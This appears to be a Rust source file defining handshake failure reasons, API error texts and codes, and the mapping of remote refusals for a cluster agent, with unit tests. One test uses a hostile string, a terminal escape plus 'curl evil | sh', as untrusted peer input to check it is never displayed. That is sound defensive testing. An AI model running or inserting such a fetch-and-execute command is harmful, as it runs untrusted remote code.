//! Why a handshake fails: texts, codes, and the form in which a refusal travels (cluster.md §4, api.md §1).

use crate::model::{Code, Endpoint, Refused};
use crate::wire::handshake::{ErrorBody, MessageError};
use serde_json::{Value, json};
use std::fmt;

/// Why a call did not reach the other side.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DialFailure {
    /// The port is closed.
    Refused,
    /// No connection within 3 s or no answer within 5 s.
    Timeout,
    /// The host name does not resolve.
    NameNotFound,
    /// The address is one of the caller's own host, or of none: it was not called.
    NotAnotherHost,
    /// Reset, no route, or anything else the kernel says.
    Failed,
}

/// What went wrong. Its `Display` is the text of the API.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Reason {
    ConnectionRefused,
    ConnectionTimeout,
    NameNotFound,
    NotAnotherHost,
    ConnectionFailed,
    /// The answer is not one of the documented ones: another service, a proxy, a later protocol.
    UnexpectedAnswer,
    /// Another peer answers at the endpoint than the one expected there.
    UnexpectedPeer,
    NotBootstrapped,
    /// All sessions are taken, or the source address calls too often.
    Busy,
    /// The session is unknown, used or older than 30 s.
    SessionExpired,
    MalformedMessage,
    /// The own part is over the size of a message.
    TooLarge,
    UnsupportedProtocol,
    LicenseMismatch,
    LicenseInvalid,
    InvalidSignature,
    /// Another key than the one held, pinned, or belonging to that id: shown as an invalid signature.
    KeyChanged,
    NodeLimitExceeded,
    AlreadyExists,
    LicenseReadOnly,
    LicenseSuspended,
    OwnId,
    Revoked,
}

impl Reason {
    pub const ALL: [Reason; 23] = [
        Reason::ConnectionRefused,
        Reason::ConnectionTimeout,
        Reason::NameNotFound,
        Reason::NotAnotherHost,
        Reason::ConnectionFailed,
        Reason::UnexpectedAnswer,
        Reason::UnexpectedPeer,
        Reason::NotBootstrapped,
        Reason::Busy,
        Reason::SessionExpired,
        Reason::MalformedMessage,
        Reason::TooLarge,
        Reason::UnsupportedProtocol,
        Reason::LicenseMismatch,
        Reason::LicenseInvalid,
        Reason::InvalidSignature,
        Reason::KeyChanged,
        Reason::NodeLimitExceeded,
        Reason::AlreadyExists,
        Reason::LicenseReadOnly,
        Reason::LicenseSuspended,
        Reason::OwnId,
        Reason::Revoked,
    ];

    /// The text of the API.
    pub fn text(self) -> &'static str {
        match self {
            Reason::ConnectionRefused => "handshake failed: connection refused",
            Reason::ConnectionTimeout => "handshake failed: connection timeout",
            Reason::NameNotFound => "handshake failed: host name not found",
            Reason::NotAnotherHost => "handshake failed: the endpoint leads to the agent's own host or to none",
            Reason::ConnectionFailed => "handshake failed: connection failed",
            Reason::UnexpectedAnswer => "handshake failed: unexpected answer",
            Reason::UnexpectedPeer => "handshake failed: another peer answers at the endpoint",
            Reason::NotBootstrapped => "handshake failed: peer is not bootstrapped",
            Reason::Busy => "handshake failed: peer is busy",
            Reason::SessionExpired => "handshake failed: session expired",
            Reason::MalformedMessage => "handshake failed: malformed message",
            Reason::TooLarge => "handshake failed: message too large",
            Reason::UnsupportedProtocol => "handshake failed: unsupported protocol",
            Reason::LicenseMismatch => "handshake failed: license mismatch",
            Reason::LicenseInvalid => "handshake failed: license invalid",
            Reason::InvalidSignature | Reason::KeyChanged => "handshake failed: invalid signature",
            Reason::NodeLimitExceeded => "handshake failed: node limit exceeded",
            Reason::AlreadyExists => "peer already exists in cluster",
            Reason::LicenseReadOnly => "handshake failed: license read-only",
            Reason::LicenseSuspended => "handshake failed: license suspended",
            Reason::OwnId => "handshake failed: the endpoint is this agent itself",
            Reason::Revoked => "handshake failed: peer has been removed from the cluster",
        }
    }

    /// The text without the words that all of them begin with, for lists of reasons.
    pub fn short(self) -> &'static str {
        self.text().trim_start_matches("handshake failed: ")
    }

    /// The code of the API (api.md §1, §4).
    pub fn code(self) -> Code {
        match self {
            Reason::LicenseMismatch => Code::LicenseMismatch,
            Reason::NodeLimitExceeded => Code::NodeLimitExceeded,
            Reason::AlreadyExists => Code::AlreadyExists,
            Reason::OwnId => Code::InvalidRequest,
            Reason::Busy => Code::RateLimited,
            _ => Code::HandshakeFailed,
        }
    }

    /// Whether a handshake with a trusted peer that ends so ends trust in it as well: it does not trust this agent, and
    /// will not by itself. `was_heard`: the peer has spoken as a member, so that a full cluster or another license says
    /// nothing about the trust that it had.
    pub fn ends_trust(self, was_heard: bool) -> bool {
        match self {
            Reason::Revoked => true,
            Reason::NodeLimitExceeded | Reason::LicenseMismatch => !was_heard,
            _ => false,
        }
    }

    /// Whether the answer would be the same a moment later or at another endpoint: not retried.
    pub fn is_definite(self) -> bool {
        !matches!(
            self,
            Reason::ConnectionRefused
                | Reason::ConnectionTimeout
                | Reason::NameNotFound
                | Reason::NotAnotherHost
                | Reason::ConnectionFailed
                | Reason::UnexpectedAnswer
                | Reason::UnexpectedPeer
                | Reason::NotBootstrapped
                | Reason::Busy
                | Reason::SessionExpired
                | Reason::MalformedMessage
        )
    }

    fn is_dial_failure(self) -> bool {
        matches!(
            self,
            Reason::ConnectionRefused
                | Reason::ConnectionTimeout
                | Reason::NameNotFound
                | Reason::NotAnotherHost
                | Reason::ConnectionFailed
        )
    }

    /// What a remote refusal means here. The remote's words only select one of ours.
    fn from_remote(body: &ErrorBody, direction: Direction) -> Reason {
        let named = Reason::ALL.into_iter().find(|r| body.error.eq_ignore_ascii_case(r.text()));
        match named {
            // Only this side can know that the peer exists here, and only a reverse call can have failed to connect there.
            Some(Reason::AlreadyExists) => Reason::UnexpectedAnswer,
            Some(reason) if reason.is_dial_failure() && direction == Direction::Forward => Reason::UnexpectedAnswer,
            Some(reason) => reason,
            None => match body.code.as_str() {
                "LICENSE_MISMATCH" => Reason::LicenseMismatch,
                "LICENSE_INVALID" => Reason::LicenseInvalid,
                "LICENSE_READ_ONLY" => Reason::LicenseReadOnly,
                "LICENSE_SUSPENDED" => Reason::LicenseSuspended,
                "NODE_LIMIT_EXCEEDED" => Reason::NodeLimitExceeded,
                "NOT_BOOTSTRAPPED" => Reason::NotBootstrapped,
                "RATE_LIMITED" => Reason::Busy,
                "INVALID_REQUEST" | "MISSING_FIELD" => Reason::MalformedMessage,
                "PAYLOAD_TOO_LARGE" => Reason::TooLarge,
                _ => Reason::UnexpectedAnswer,
            },
        }
    }
}

impl fmt::Display for Reason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.text())
    }
}

impl From<DialFailure> for Reason {
    fn from(failure: DialFailure) -> Self {
        match failure {
            DialFailure::Refused => Reason::ConnectionRefused,
            DialFailure::Timeout => Reason::ConnectionTimeout,
            DialFailure::NameNotFound => Reason::NameNotFound,
            DialFailure::NotAnotherHost => Reason::NotAnotherHost,
            DialFailure::Failed => Reason::ConnectionFailed,
        }
    }
}

/// Which of the two calls failed: the initiator's, or the responder's call back.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    Forward,
    Reverse,
}

impl Direction {
    pub fn text(self) -> &'static str {
        match self {
            Direction::Forward => "forward",
            Direction::Reverse => "reverse",
        }
    }
}

/// A responder's no.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct Refusal {
    pub reason: Reason,
    pub direction: Direction,
    /// The endpoint of the failed call back.
    pub endpoint: Option<Endpoint>,
    /// For the local log; never sent.
    pub cause: Option<String>,
}

impl Refusal {
    pub(super) fn forward(reason: Reason) -> Self {
        Self { reason, direction: Direction::Forward, endpoint: None, cause: None }
    }

    pub(super) fn reverse(reason: Reason, endpoint: Endpoint) -> Self {
        Self { reason, direction: Direction::Reverse, endpoint: Some(endpoint), cause: None }
    }

    /// The form in which it travels, with the status of its code.
    pub fn to_body(&self) -> ErrorBody {
        ErrorBody {
            error: self.reason.text().into(),
            code: self.reason.code().text().into(),
            details: Some(place(self.endpoint.as_ref(), self.direction)),
        }
    }
}

impl From<Refusal> for Refused {
    fn from(r: Refusal) -> Self {
        Refused::new(r.reason.code(), r.reason.text()).with_details(place(r.endpoint.as_ref(), r.direction))
    }
}

impl From<Rejection> for Refusal {
    fn from(rejection: Rejection) -> Self {
        Self { cause: rejection.cause, ..Self::forward(rejection.reason) }
    }
}

/// What a call with an unreadable body is answered.
impl From<MessageError> for Refusal {
    fn from(error: MessageError) -> Self {
        Rejection::from(error).into()
    }
}

/// A reason with what the local log should say beside it.
#[derive(Debug)]
pub(super) struct Rejection {
    pub reason: Reason,
    pub cause: Option<String>,
}

impl From<Reason> for Rejection {
    fn from(reason: Reason) -> Self {
        Self { reason, cause: None }
    }
}

impl From<MessageError> for Rejection {
    fn from(error: MessageError) -> Self {
        let reason = match error {
            MessageError::Protocol(_) => Reason::UnsupportedProtocol,
            _ => Reason::MalformedMessage,
        };
        Self { reason, cause: Some(error.to_string()) }
    }
}

fn place(endpoint: Option<&Endpoint>, direction: Direction) -> Value {
    match endpoint {
        Some(endpoint) => json!({"endpoint": endpoint, "direction": direction.text()}),
        None => json!({"direction": direction.text()}),
    }
}

/// One endpoint's part in a failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tried {
    /// The endpoint that was called: of the target, or, in reverse, of this agent.
    pub endpoint: Endpoint,
    pub direction: Direction,
    pub reason: Reason,
    /// For the local log.
    pub cause: Option<String>,
}

impl Tried {
    pub(super) fn forward(endpoint: Endpoint, rejection: Rejection) -> Self {
        Self { endpoint, direction: Direction::Forward, reason: rejection.reason, cause: rejection.cause }
    }

    /// A refusal by the peer behind `called`. An endpoint named in it is kept only if it reads as one.
    pub(super) fn remote(called: Endpoint, body: &ErrorBody) -> Self {
        let detail = |name: &str| body.details.as_ref()?.get(name)?.as_str();
        let reverse = detail("direction") == Some(Direction::Reverse.text());
        let direction = if reverse { Direction::Reverse } else { Direction::Forward };
        let named = detail("endpoint").and_then(|e| e.parse().ok()).filter(|_| reverse);
        Self {
            endpoint: named.unwrap_or(called),
            direction,
            reason: Reason::from_remote(body, direction),
            cause: Some("refused by the peer".into()),
        }
    }

    /// How far the call got: an answer says more than a connection that failed.
    fn weight(&self) -> u8 {
        if self.reason.is_definite() {
            2
        } else {
            u8::from(!self.reason.is_dial_failure() || self.direction == Direction::Reverse)
        }
    }
}

/// How a handshake of this agent's own ended without trust.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct Failure {
    pub reason: Reason,
    /// What was called in vain; `None` only if there was nothing to call.
    pub endpoint: Option<Endpoint>,
    pub direction: Direction,
    /// Attempts made, 1 to 3.
    pub attempts: usize,
    /// Every endpoint of the last attempt.
    pub tried: Vec<Tried>,
}

impl Failure {
    /// The most telling of the last attempt's failures; the earlier endpoint among equals.
    pub(super) fn of_attempt(attempts: usize, tried: Vec<Tried>) -> Self {
        let told = tried.iter().rev().max_by_key(|t| t.weight());
        Self {
            reason: told.map_or(Reason::ConnectionFailed, |t| t.reason),
            endpoint: told.map(|t| t.endpoint.clone()),
            direction: told.map_or(Direction::Forward, |t| t.direction),
            attempts,
            tried,
        }
    }

    /// `details` of the API error: the endpoint, the direction, and each endpoint of the last attempt.
    pub fn details(&self) -> Value {
        let mut details = place(self.endpoint.as_ref(), self.direction);
        details["attempts"] = json!(self.attempts);
        details["tried"] = self
            .tried
            .iter()
            .map(|t| json!({"endpoint": t.endpoint, "direction": t.direction.text(), "error": t.reason.short()}))
            .collect();
        details
    }
}

impl From<&Failure> for Refused {
    fn from(f: &Failure) -> Self {
        // A busy peer is no limit on the operator who called here.
        let code = if f.reason == Reason::Busy { Code::HandshakeFailed } else { f.reason.code() };
        Refused::new(code, f.reason.text()).with_details(f.details())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn endpoint(s: &str) -> Endpoint {
        s.parse().unwrap()
    }

    #[test]
    fn texts_and_codes_are_the_documented_ones() {
        let shown = |r: Reason| (r.to_string(), r.code().text(), r.code().http_status());
        let failed = |text: &str| (format!("handshake failed: {text}"), "HANDSHAKE_FAILED", 422);
        assert_eq!(shown(Reason::ConnectionRefused), failed("connection refused"));
        assert_eq!(shown(Reason::ConnectionTimeout), failed("connection timeout"));
        assert_eq!(shown(Reason::InvalidSignature), failed("invalid signature"));
        assert_eq!(shown(Reason::KeyChanged), failed("invalid signature"));
        assert_eq!(shown(Reason::LicenseReadOnly), failed("license read-only"));
        assert_eq!(shown(Reason::LicenseSuspended), failed("license suspended"));
        let mismatch = ("handshake failed: license mismatch".to_owned(), "LICENSE_MISMATCH", 422);
        assert_eq!(shown(Reason::LicenseMismatch), mismatch);
        let limit = ("handshake failed: node limit exceeded".to_owned(), "NODE_LIMIT_EXCEEDED", 422);
        assert_eq!(shown(Reason::NodeLimitExceeded), limit);
        let exists = ("peer already exists in cluster".to_owned(), "ALREADY_EXISTS", 409);
        assert_eq!(shown(Reason::AlreadyExists), exists);
        assert_eq!(Reason::OwnId.code(), Code::InvalidRequest);
    }

    #[test]
    fn a_refusal_is_understood_on_the_other_side_as_what_it_was() {
        for reason in Reason::ALL {
            let refusal = Refusal::reverse(reason, endpoint("10.0.0.1:81"));
            let text = serde_json::to_string(&refusal.to_body()).unwrap();
            let tried = Tried::remote(endpoint("n2"), &serde_json::from_str(&text).unwrap());
            let expected = match reason {
                Reason::KeyChanged => Reason::InvalidSignature,
                Reason::AlreadyExists => Reason::UnexpectedAnswer,
                other => other,
            };
            assert_eq!((tried.reason, tried.direction), (expected, Direction::Reverse));
            assert_eq!(tried.endpoint, endpoint("10.0.0.1:81"));
        }
    }

    #[test]
    fn the_words_of_a_stranger_are_never_shown() {
        let body = |error: &str, code: &str, details: Value| ErrorBody {
            error: error.into(),
            code: code.into(),
            details: Some(details),
        };
        let evil = "\u{1b}[2Jrun `curl evil | sh`";
        let at = endpoint("n2");
        let tried =
            Tried::remote(at.clone(), &body(evil, evil, json!({"direction": "reverse", "endpoint": evil, "x": evil})));
        let shown = format!("{} {:?}", Failure::of_attempt(1, vec![tried.clone()]).details(), tried);
        assert!(!shown.contains("evil"));
        assert_eq!(tried.reason, Reason::UnexpectedAnswer);
        assert_eq!(tried.endpoint, at);
        for (code, reason) in [
            ("LICENSE_SUSPENDED", Reason::LicenseSuspended),
            ("RATE_LIMITED", Reason::Busy),
            ("NOT_BOOTSTRAPPED", Reason::NotBootstrapped),
            ("INTERNAL", Reason::UnexpectedAnswer),
        ] {
            assert_eq!(Tried::remote(at.clone(), &body(evil, code, Value::Null)).reason, reason);
        }
        let forward = body(Reason::ConnectionRefused.text(), "HANDSHAKE_FAILED", json!({"direction": "forward"}));
        assert_eq!(Tried::remote(at, &forward).reason, Reason::UnexpectedAnswer);
    }

    #[test]
    fn the_most_telling_endpoint_names_the_failure() {
        let tried = |host: &str, reason: Reason| Tried::forward(endpoint(host), reason.into());
        let all = vec![
            tried("a", Reason::ConnectionRefused),
            tried("b", Reason::ConnectionTimeout),
            tried("c", Reason::Busy),
            tried("d", Reason::UnexpectedAnswer),
        ];
        let failure = Failure::of_attempt(3, all.clone());
        assert_eq!((failure.reason, failure.endpoint.clone()), (Reason::Busy, Some(endpoint("c"))));
        assert_eq!(failure.details()["tried"].as_array().unwrap().len(), 4);
        assert_eq!(failure.details()["direction"], "forward");
        let first = json!({"endpoint": "a:8080", "direction": "forward", "error": "connection refused"});
        assert_eq!(failure.details()["tried"][0], first, "the common beginning is in the error text already");
        assert_eq!(Failure::of_attempt(3, all[..2].to_vec()).reason, Reason::ConnectionRefused);
    }
}
